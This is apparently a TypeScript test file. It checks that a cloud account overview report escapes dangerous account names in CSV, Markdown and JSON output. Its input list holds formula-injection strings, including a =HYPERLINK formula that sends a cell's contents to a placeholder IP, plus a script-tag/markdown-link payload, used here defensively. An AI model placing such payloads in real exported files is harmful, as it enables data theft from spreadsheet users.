import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import markdownIt from 'markdown-it';
import type { OverviewRow } from '../../../../src/core/overview/overview.ts';
import { reportText } from '../../../../src/core/overview/report.ts';

const AT = Date.UTC(2026, 10, 2, 10, 15);
const HEAD = ['State', 'Account', 'Account ID', 'Group', 'Region', 'Last checked', 'Problem'];

/** Names that do harm where they are taken for something else than text. */
const NAMES = [
  '=HYPERLINK("http://192.0.2.1/?"&A1,"open")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  'quotes " and "" and \', commas, semicolons;',
  'two\nlines',
  'three\r\nlines\r\nof Windows',
  'a | b \\| c',
  '<script>alert(1)</script> **bold** [link](http://192.0.2.1) http://192.0.2.1 www.example.com a@example.com',
  '&#10; &amp; `code`',
  '🚗 Fahrzeugdaten 👩‍🔧',
  '',
];

function row(accountName: string): OverviewRow {
  return {
    key: 'default|us-east-1',
    target: { connectionId: 'default', region: 'us-east-1' },
    accountName,
    accountId: '012345678901',
    groupName: accountName,
    region: 'us-east-1',
    word: 'Not registered',
    mark: 'open',
    states: ['notRegistered'],
    checkedAt: AT,
  };
}

const ROWS = NAMES.map(row);

/** A name as a CSV cell holds it: what a spreadsheet would run is text. */
function inert(name: string): string {
  return /^\s*[=+\-@＝]/.test(name) ? `'${name}` : name;
}

const EXPECTED = NAMES.map((name) => [
  'Not registered',
  inert(name),
  '012345678901',
  inert(name),
  'us-east-1',
  '2026-11-02T10:15:00.000Z',
  '',
]);

test('a CSV report read by csv-parse has every name unharmed, and no cell that a spreadsheet would run', () => {
  const read: unknown = parse(reportText(ROWS, 'csv', AT), { bom: true });
  assert.deepEqual(read, [HEAD, ...EXPECTED]);
  assert.ok(EXPECTED.flat().every((cell) => !/^[\s]*[=+\-@]/.test(cell)));
});

test('a CSV report read by the csv module of Python has every name unharmed', () => {
  const script = [
    'import csv, io, json, sys',
    'text = sys.stdin.buffer.read().decode("utf-8-sig")',
    'print(json.dumps(list(csv.reader(io.StringIO(text, newline="")))))',
  ].join('\n');
  const read: unknown = JSON.parse(
    execFileSync('python3', ['-c', script], { input: reportText(ROWS, 'csv', AT), encoding: 'utf8' }),
  );
  assert.deepEqual(read, [HEAD, ...EXPECTED]);
});

test('a Markdown report is one table, whose cells are text without markup, links or HTML', () => {
  const tokens = markdownIt({ html: true, linkify: true }).parse(reportText(ROWS, 'markdown', AT), {});
  const inline = tokens.filter(
    ({ type }, index) => type === 'inline' && /^t[dh]_open$/.test(tokens[index - 1]?.type ?? ''),
  );
  assert.equal(tokens.filter(({ type }) => type === 'tr_open').length, NAMES.length + 1);
  assert.equal(inline.length, (NAMES.length + 1) * HEAD.length);
  for (const { children } of inline) {
    assert.ok((children ?? []).every(({ type }) => ['text', 'text_special', 'softbreak'].includes(type)));
  }
  const said = (index: number): string => (inline[index]?.children ?? []).map(({ content }) => content).join('');
  for (const name of [
    'two\nlines',
    'a | b \\| c',
    '=HYPERLINK("http://192.0.2.1/?"&A1,"open")',
    '&#10; &amp; `code`',
  ]) {
    assert.equal(said((NAMES.indexOf(name) + 1) * HEAD.length + 1), name);
  }
});

test('a JSON report has every name as it is, and the time of each answer', () => {
  const read = JSON.parse(reportText(ROWS, 'json', AT)) as { createdAt: string; rows: Record<string, unknown>[] };
  assert.equal(read.createdAt, '2026-11-02T10:15:00.000Z');
  assert.deepEqual(
    read.rows.map(({ account }) => account),
    NAMES,
  );
  assert.deepEqual(Object.keys(read.rows[0] ?? {}), ['state', 'account', 'accountId', 'group', 'region', 'checkedAt']);
});

test('what was never checked has no time', () => {
  const { checkedAt: _none, ...never } = row('prod');
  const cells: string[][] = parse(reportText([never], 'csv', AT), { bom: true });
  assert.equal(cells[1]?.[5], '');
});
